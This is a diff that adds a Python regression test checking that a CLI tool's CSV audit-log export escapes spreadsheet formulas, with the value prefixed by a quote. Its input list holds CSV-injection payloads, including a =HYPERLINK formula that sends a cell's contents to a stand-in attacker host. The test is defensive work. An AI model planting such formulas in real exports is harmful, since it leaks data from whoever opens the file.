@@ -230,6 +230,21 @@ def test_export_formats_and_filters(audit_log):
         parse_since("yesterday-ish")
 
 
+def test_the_cli_csv_export_never_hands_a_spreadsheet_a_formula(audit_log):
+    """`codemoat audit export --format csv` wrote a retained prompt such as =HYPERLINK(...) as a cell a
+    spreadsheet runs (CSV injection); it now starts with a ', as the console's export does (d1020cc)."""
+    import csv
+    import io
+
+    bad = ['=HYPERLINK("http://evil.example/?"&B2,"x")', "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
+    for b in bad:
+        audit_log.append("request", user="alice", route="/v1/completions", status=200, prompt_text=b, latency_ms=-1)
+    rows = list(csv.DictReader(io.StringIO("".join(audit_log.export("csv")))))
+    assert [r["prompt_text"] for r in rows] == ["'" + b for b in bad]
+    assert {float(r["latency_ms"]) for r in rows} == {-1.0}  # a number is a number, not text
+    assert [json.loads(x)["prompt_text"] for x in audit_log.export("jsonl")] == bad  # JSONL keeps the text as it is
+
+
 def test_head_file_rollback_detected(audit_log, audit_home, db_file, db_url):
     """Dropping the last record and putting back the previous signed head from the file's other slot fails."""
     fill(audit_log, 6)
